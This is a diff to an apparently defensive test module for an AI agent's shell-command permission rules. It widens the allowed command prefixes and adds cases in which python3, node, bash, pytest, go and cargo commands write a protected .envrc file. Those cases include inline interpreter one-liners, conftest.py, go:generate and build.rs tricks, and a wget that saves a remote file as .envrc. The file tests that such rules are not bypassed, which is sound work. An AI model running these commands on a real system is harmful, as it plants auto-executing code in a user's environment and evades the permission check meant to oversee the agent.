@@ -25,7 +25,8 @@ SHELL = "run_shell_command"
 ALLOWED = [
     "tar", "unzip", "cpio", "7z", "patch", "git", "rsync", "cp", "mv", "ln", "find", "xargs", "make",
     "npm", "yarn", "pnpm", "npx", "pip", "gzip", "gunzip", "curl", "wget", "sed", "awk", "perl", "ed",
-    "ar", "jar", "scp", "cat", "echo", "ls", "touch",
+    "ar", "jar", "scp", "cat", "echo", "ls", "touch", "python3", "python3.11", "node", "bash", "sh", "pytest",
+    "go", "cargo",
 ]  # fmt: skip
 ALLOW_RULE = (
     f'[[rule]]\nname = "user-allows"\ntoolName = "run_shell_command"\ncommandPrefix = {ALLOWED!r}\n'.replace("'", '"')
@@ -134,6 +135,19 @@ ATTACKS: list[tuple[str, str | None, str, str | None]] = [
     ("wget-execute", None, "wget -e output_document=.envrc https://example.invalid/", None),
     ("ar-x", "mkdir q && echo pwned > q/.envrc && (cd q && ar rc ../a.a .envrc) && rm -rf q", "ar x a.a", ".envrc"),
     ("scp-remote-tree", None, "scp -r host:dir/. .", None),
+    # interpreters and what runs a project's own code (perl -e was asked, python3 -c was not)
+    ("python3-c", None, "python3 -c \"open('.envrc', 'w').write('pwned')\"", ".envrc"),
+    ("python3-script", 'printf \'open(".envrc", "w")\\n\' > x.py', "python3 x.py", ".envrc"),
+    ("python3-stdin", None, "python3 <<< \"open('.envrc', 'w')\"", ".envrc"),
+    ("python3-versioned", None, "python3.11 -c \"open('.envrc', 'w')\"", ".envrc"),
+    ("python3-module", 'printf \'open(".envrc", "w")\\n\' > m.py', "python3 -m m", ".envrc"),
+    ("node-e", None, "node -e \"require('fs').writeFileSync('.envrc', 'pwned')\"", ".envrc"),
+    ("bash-script", "echo 'echo pwned > .envrc' > s.sh", "bash s.sh", ".envrc"),
+    ("sh-script", "echo 'echo pwned > .envrc' > s.sh", "sh s.sh", ".envrc"),
+    ("pytest-conftest", 'printf \'open(".envrc", "w")\\n\' > conftest.py', "pytest --co -q", None),
+    ("go-generate", "printf 'package x\\n//go:generate touch .envrc\\n' > x.go", "go generate", None),
+    ("go-test", None, "go test ./...", None),
+    ("cargo-build", "mkdir src && echo 'fn main(){}' > build.rs", "cargo build", None),
 ]
 """Under an allow rule for the command, each of these writes a protected path (the victim)."""
 
@@ -178,6 +192,12 @@ SAFE = [
     "npm ls",
     "pip list",
     "xargs echo < list",
+    "go build ./...",
+    "go vet ./...",
+    "go -C sub build",
+    "cargo fmt",
+    "cargo --version",
+    "bash -c 'echo hi'",
 ]
 """Ordinary forms of the same commands: they write nothing their arguments do not name."""
 
